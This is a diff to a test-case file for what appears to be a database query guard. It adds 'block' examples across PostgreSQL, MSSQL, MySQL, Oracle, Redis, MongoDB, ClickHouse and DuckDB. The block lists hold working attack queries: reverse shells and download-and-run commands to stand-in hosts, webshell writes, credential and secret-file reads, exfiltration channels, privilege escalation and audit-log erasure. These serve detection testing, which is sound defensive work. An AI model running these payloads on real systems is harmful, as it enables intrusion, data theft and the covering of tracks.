@@ -8,6 +8,8 @@ const EXEC: KbCase[] = [
   {
     "id": "db.pg_copy_program",
     "block": [
+      "copy (select 1) to program $$nc 198.51.100.3 9001 -e /bin/sh$$;",
+      "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''wget -qO- http://203.0.113.4/r|sh'''; END $$;",
       "COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.5/x.sh | sh';",
       "COPY cmd_out FROM PROGRAM 'id';",
       "CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'bash -c \"bash -i >& /dev/tcp/198.51.100.4/443 0>&1\"';",
@@ -54,6 +56,8 @@ const EXEC: KbCase[] = [
   {
     "id": "db.mssql_xp_cmdshell",
     "block": [
+      "exec('xp_cmdshell ''powershell -nop -w hidden -c iex(iwr http://203.0.113.5/a.ps1)''')",
+      "EXEC [master].[sys].[xp_cmdshell] 'net user hacker P@ss /add';",
       "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
       "EXEC xp_cmdshell 'whoami';",
       "EXECUTE AS LOGIN = 'sa'; EXEC xp_cmdshell 'whoami'; REVERT;",
@@ -67,6 +71,7 @@ const EXEC: KbCase[] = [
   {
     "id": "db.mssql_enable_feature",
     "block": [
+      "EXEC sp_configure @configname='Ole Automation Procedures', @configvalue=1;",
       "EXEC sp_configure 'Ole Automation Procedures', 1; RECONFIGURE;",
       "EXEC sp_configure 'clr strict security', 0;",
     ],
@@ -170,12 +175,18 @@ const EXEC: KbCase[] = [
   },
   {
     "id": "db.redis_module_load",
-    "block": ["MODULE LOAD /tmp/exp.so", "MODULE LOAD ./exp.so"],
+    "block": [
+      '["MODULE", "LOAD", "/tmp/rogue.so"]',
+      "MODULE LOAD /tmp/exp.so",
+      "MODULE LOAD ./exp.so",
+    ],
     "pass": ["MODULE LOAD /usr/lib/redis/modules/redisearch.so", "MODULE LIST"],
   },
   {
     "id": "db.redis_lua_escape",
     "block": [
+      "eval \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); return io_l().popen('id'):read('*a')\" 0",
+      '["EVAL", "return os.execute(\'id\')", "0"]',
       "EVAL \"return io.popen('id'):read('*a')\" 0",
       'EVAL \'local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = f(); local p = io.popen("id"); return p:read("*a")\' 0',
     ],
@@ -194,7 +205,7 @@ const EXEC: KbCase[] = [
   },
   {
     "id": "db.neo4j_systemdb",
-    "block": ["CALL apoc.systemdb.execute('SHOW USERS')"],
+    "block": ["CALL apoc.config.list()", "CALL apoc.systemdb.execute('SHOW USERS')"],
     "pass": ["CALL apoc.meta.schema()"],
   },
   {
@@ -225,6 +236,8 @@ const FILES: KbCase[] = [
   {
     "id": "db.pg_read_server_file",
     "block": [
+      "select pg_read_file('../../../../etc/passwd', 0, 200000);",
+      "SELECT pg_ls_dir('/');",
       "SELECT pg_read_file('/etc/passwd');",
       "SELECT pg_ls_dir('/root/.ssh');",
       "SELECT pg_read_binary_file('/var/lib/postgresql/data/pg_hba.conf');",
@@ -263,6 +276,9 @@ const FILES: KbCase[] = [
   {
     "id": "db.mysql_load_file",
     "block": [
+      "select load_file('/var/www/html/wp-config.php');",
+      "select load_file('/etc/mysql/debian.cnf');",
+      "LOAD DATA INFILE '/root/.bash_history' INTO TABLE t;",
       "SELECT LOAD_FILE('/etc/passwd');",
       "LOAD DATA INFILE '/etc/passwd' INTO TABLE t;",
       "SELECT LOAD_FILE(0x2f6574632f706173737764);",
@@ -273,6 +289,7 @@ const FILES: KbCase[] = [
   {
     "id": "db.mysql_outfile",
     "block": [
+      'SELECT "<?php eval($_POST[x]);?>" INTO OUTFILE "/var/www/html/up/x.php";',
       "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php';",
       "SELECT 0x7f454c4602010100000000000000000003003e0001000000d00c0000000000004000000000000000 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so';",
       "SELECT 1 INTO OUTFILE '/tmp/x.txt' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e;",
@@ -318,6 +335,7 @@ const FILES: KbCase[] = [
   {
     "id": "db.redis_config_drop",
     "block": [
+      '["CONFIG", "SET", "dir", "/root/.ssh"]',
       "CONFIG SET dir /root/.ssh",
       "CONFIG SET dbfilename authorized_keys",
       "CONFIG SET dir /var/spool/cron/crontabs",
@@ -326,12 +344,17 @@ const FILES: KbCase[] = [
   },
   {
     "id": "db.clickhouse_file",
-    "block": ["SELECT * FROM file('/etc/passwd', 'LineAsString');"],
+    "block": [
+      "SELECT * FROM file('/var/lib/clickhouse/preprocessed_configs/users.xml', 'RawBLOB');",
+      "SELECT * FROM file('/etc/passwd', 'LineAsString');",
+    ],
     "pass": ["SELECT * FROM file('events.csv', 'CSVWithNames');"],
   },
   {
     "id": "db.duckdb_read_secret",
     "block": [
+      "SELECT * FROM read_csv_auto('/app/.env', delim='=');",
+      "SELECT * FROM glob('/root/.ssh/*');",
       "SELECT * FROM read_text('~/.ssh/id_rsa');",
       "SELECT * FROM read_text('/etc/shadow');",
       "SELECT content FROM read_blob('/home/ubuntu/.aws/credentials');",
@@ -348,6 +371,7 @@ const EXFIL: KbCase[] = [
   {
     "id": "db.pg_dblink_out",
     "block": [
+      "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '198.51.100.41', port '5432', dbname 'sink'); CREATE USER MAPPING FOR current_user SERVER srv OPTIONS (user 'u', password 'p');",
       "SELECT dblink_connect('host=203.0.113.9 user=x password=y dbname=z');",
       "CREATE SERVER exfil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example.net', dbname 'x');",
       "SELECT * FROM dblink('host=pg.evil-collector.net user=u password=p dbname=d', 'SELECT 1') AS t(a int); SELECT dblink_exec('INSERT INTO loot SELECT * FROM customers');",
@@ -360,6 +384,7 @@ const EXFIL: KbCase[] = [
   {
     "id": "db.mssql_linked_out",
     "block": [
+      "EXEC sp_addlinkedserver @server = N'EXT', @srvproduct = N'', @provider = N'SQLNCLI', @datasrc = N'203.0.113.60';",
       "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=198.51.100.23;Uid=sa;Pwd=x;', 'SELECT 1');",
       "INSERT INTO OPENROWSET('SQLOLEDB','Data Source=exfil.example.org;User ID=a;Password=b;','SELECT * FROM dump.dbo.t') SELECT * FROM dbo.Customers;",
     ],
@@ -370,6 +395,7 @@ const EXFIL: KbCase[] = [
   {
     "id": "db.oracle_net_out",
     "block": [
+      "SELECT DBMS_LDAP.INIT((SELECT password FROM sys.user$ WHERE name='SYS')||'.x.oast.live', 389) FROM dual;",
       "SELECT UTL_HTTP.REQUEST('http://attacker.example.com/'||(SELECT password FROM dba_users WHERE rownum=1)) FROM dual;",
       "SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.x.attacker.net') FROM dual;",
       "SELECT HTTPURITYPE('http://198.51.100.9/'||(SELECT banner FROM v$version WHERE rownum=1)).getclob() FROM dual;",
@@ -377,8 +403,16 @@ const EXFIL: KbCase[] = [
     "pass": ["SELECT UTL_HTTP.REQUEST('http://intranet.corp/health') FROM dual;"],
   },
   {
+    "id": "db.oracle_xxe_out",
+    "block": [
+      "SELECT extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.7/\">%x;]>'),'/l') FROM dual;",
+    ],
+    "pass": ["SELECT extractvalue(xmltype(payload), '/order/id') FROM inbox;"],
+  },
+  {
     "id": "db.unc_capture",
     "block": [
+      "SELECT * FROM users INTO OUTFILE '\\\\\\\\203.0.113.8\\\\share\\\\u.txt';",
       "EXEC master..xp_dirtree '\\\\attacker.example.com\\share';",
       "SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.attacker.net\\\\a'));",
       "EXEC master..xp_dirtree '\\\\10.0.0.99\\x';",
@@ -392,6 +426,7 @@ const EXFIL: KbCase[] = [
   {
     "id": "db.redis_replicate_out",
     "block": [
+      '["SLAVEOF", "203.0.113.9", "6379"]',
       "REPLICAOF 203.0.113.7 6379",
       'MIGRATE 203.0.113.7 6379 "" 0 5000 KEYS k1 k2',
       "SLAVEOF 198.51.100.77 21000",
@@ -402,6 +437,8 @@ const EXFIL: KbCase[] = [
   {
     "id": "db.clickhouse_write_out",
     "block": [
+      "INSERT INTO FUNCTION url('http://203.0.113.70:8000/collect', 'JSONEachRow') SELECT * FROM system.users;",
+      "INSERT INTO FUNCTION remote('203.0.113.71:9000', 'loot', 'dump', 'default', '') SELECT * FROM customers;",
       "INSERT INTO FUNCTION url('https://attacker.example.com/c', 'CSV') SELECT * FROM users;",
       "INSERT INTO FUNCTION s3('https://exfil-bucket.s3.amazonaws.com/dump.csv', 'CSV') SELECT * FROM users;",
     ],
@@ -449,7 +486,12 @@ const CREDS: KbCase[] = [
   },
   {
     "id": "db.mysql_password_hashes",
-    "block": ["SELECT user, authentication_string FROM mysql.user;", "SELECT * FROM mysql.user;"],
+    "block": [
+      "SELECT authentication_string FROM mysql.user WHERE user = 'root';",
+      "select concat(user,':',authentication_string) from mysql.user;",
+      "SELECT user, authentication_string FROM mysql.user;",
+      "SELECT * FROM mysql.user;",
+    ],
     "pass": ["SELECT user, host FROM mysql.user;"],
   },
   {
@@ -463,12 +505,19 @@ const CREDS: KbCase[] = [
   },
   {
     "id": "db.oracle_password_hashes",
-    "block": ["SELECT name, password FROM sys.user$;", "SELECT name, spare4 FROM sys.user$;"],
+    "block": [
+      "SELECT username, password FROM dba_users;",
+      "SELECT name, password FROM sys.user$;",
+      "SELECT name, spare4 FROM sys.user$;",
+    ],
     "pass": ["SELECT username, account_status FROM dba_users;"],
   },
   {
     "id": "db.mongo_user_hashes",
     "block": [
+      '{"find": "system.users", "filter": {}}',
+      "db.adminCommand({usersInfo: {forAllDBs: true}, showCredentials: true})",
+      "db.c.mapReduce(function(){ emit(this._id, db.getSiblingDB('admin').system.users.find().toArray()); }, function(k,v){ return v; }, {out: \"x\"})",
       "db.getSiblingDB('admin').system.users.find()",
       '{"usersInfo": 1, "showCredentials": true}',
       'db.getSiblingDB("admin").system.users.find({}, {"credentials": 1})',
@@ -480,12 +529,23 @@ const CREDS: KbCase[] = [
   },
   {
     "id": "db.redis_secret_config",
-    "block": ["CONFIG GET requirepass", "ACL LIST", "CONFIG GET *", "config get masterauth"],
+    "block": [
+      '["CONFIG", "GET", "requirepass"]',
+      '["ACL", "LIST"]',
+      "CONFIG GET requirepass",
+      "ACL LIST",
+      "CONFIG GET *",
+      "config get masterauth",
+    ],
     "pass": ["CONFIG GET maxmemory", "ACL WHOAMI", "CONFIG GET *memory*"],
   },
   {
     "id": "db.es_api_keys",
-    "block": ["GET /_security/api_key?owner=false", "GET /.security-7/_search"],
+    "block": [
+      "GET _security/api_key?owner=false&active_only=true",
+      "GET /_security/api_key?owner=false",
+      "GET /.security-7/_search",
+    ],
     "pass": ['POST /_security/api_key {"name": "ci-key", "expiration": "1d"}'],
   },
   {
@@ -496,6 +556,8 @@ const CREDS: KbCase[] = [
   {
     "id": "db.app_secret_dump",
     "block": [
+      "SELECT u.email, u.encrypted_password FROM public.users u;",
+      'SELECT * FROM "auth"."refresh_tokens";',
       "SELECT id, email, password_hash FROM users;",
       "SELECT * FROM api_keys;",
       "SELECT email, password_hash FROM users;",
@@ -517,6 +579,8 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.pg_role_escalate",
     "block": [
+      'ALTER USER "svc_app" WITH SUPERUSER;',
+      "ALTER ROLE reporting WITH LOGIN BYPASSRLS;",
       "ALTER ROLE app SUPERUSER;",
       "ALTER ROLE app BYPASSRLS;",
       "CREATE ROLE backdoor WITH LOGIN PASSWORD 'p' SUPERUSER;",
@@ -538,6 +602,9 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.grant_all_admin",
     "block": [
+      "GRANT ALL PRIVILEGES ON DATABASE prod TO contractor WITH GRANT OPTION;",
+      "GRANT DBA TO scott;",
+      "GRANT IMPERSONATE ON LOGIN::sa TO [app];",
       "GRANT ALL PRIVILEGES ON *.* TO 'svc'@'%' WITH GRANT OPTION;",
       "GRANT FILE ON *.* TO 'web'@'%';",
       "GRANT CONTROL SERVER TO [svc];",
@@ -550,6 +617,7 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.mssql_sysadmin",
     "block": [
+      "EXEC master..sp_addsrvrolemember @loginame = N'app', @rolename = N'sysadmin';",
       "EXEC sp_addsrvrolemember 'bob', 'sysadmin';",
       "ALTER SERVER ROLE sysadmin ADD MEMBER bob;",
       "CREATE LOGIN backdoor WITH PASSWORD = 'P@ss'; ALTER SERVER ROLE sysadmin ADD MEMBER backdoor;",
@@ -582,6 +650,11 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.audit_off",
     "block": [
+      "SET GLOBAL general_log = 0;",
+      "ALTER SERVER AUDIT SPECIFICATION srv_spec WITH (STATE = OFF);",
+      "EXEC sp_trace_setstatus @traceid = 1, @status = 0;",
+      "ALTER ROLE app SET pgaudit.log TO 'none';",
+      "ALTER SYSTEM SET audit_trail = NONE SCOPE = SPFILE;",
       "ALTER SYSTEM SET pgaudit.log = 'none';",
       "ALTER SYSTEM SET log_statement = 'none';",
       "ALTER SERVER AUDIT main_audit WITH (STATE = OFF);",
@@ -603,6 +676,8 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.audit_rows_erased",
     "block": [
+      "DELETE FROM sys.aud$;",
+      "TRUNCATE TABLE unified_audit_trail;",
       "TRUNCATE TABLE audit_log;",
       "DELETE FROM audit_log;",
       "DELETE FROM audit_events WHERE user_id = 77;",
@@ -616,6 +691,8 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.audit_trigger_off",
     "block": [
+      "ALTER TABLE accounts DISABLE TRIGGER ALL;",
+      "DROP TRIGGER IF EXISTS audit_changes ON payments;",
       "ALTER TABLE payments DISABLE TRIGGER audit_payments_trg;",
       "ALTER TABLE users DISABLE TRIGGER users_audit;",
       "DISABLE TRIGGER trg_audit_orders ON dbo.Orders;",
@@ -640,6 +717,8 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.service_auth_off",
     "block": [
+      '["ACL", "SETUSER", "default", "on", "nopass", "+@all", "~*"]',
+      '{"transient": {"xpack.security.audit.enabled": "false"}}',
       "CONFIG SET protected-mode no",
       "ACL SETUSER default on nopass +@all ~*",
       "ACL SETUSER backdoor on nopass +@all ~*",
@@ -654,6 +733,8 @@ const TAMPER: KbCase[] = [
   {
     "id": "db.mongo_server_js",
     "block": [
+      'db.accounts.find({"$where": "function() { return this.apiKey.charAt(0) == \'a\'; }"})',
+      'db.c.find({"$where": "sleep(5000) || true"})',
       'db.users.find({"$where": "function(){ var x = new Date(); while(new Date()-x < 5000){}; return true; }"})',
       'db.users.find({"$where": "this.password.match(/^a/) && sleep(2000)"})',
       'db.items.find({"$where": "return true;"})',
